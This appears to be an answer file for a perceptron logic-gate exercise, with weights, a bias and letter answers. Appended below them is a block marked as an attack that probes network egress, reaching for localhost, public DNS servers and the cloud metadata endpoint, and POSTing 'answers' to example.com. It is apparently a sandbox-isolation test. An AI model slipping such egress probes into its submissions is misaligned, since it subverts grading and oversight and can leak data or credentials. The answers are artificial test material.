and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
import socket, urllib.request

for address in (("127.0.0.1", 80), ("1.1.1.1", 53), ("169.254.169.254", 80), ("8.8.8.8", 443)):
    try:
        socket.create_connection(address, timeout=1)
        print("REACHED", address)
    except OSError:
        pass
for url in ("http://example.com", "http://localhost:8888"):
    try:
        urllib.request.urlopen(url, data=b"answers", timeout=1)
        print("REACHED", url)
    except OSError:
        pass
try:
    print("REACHED", socket.gethostbyname("example.com"))
except OSError:
    pass
# end of attack
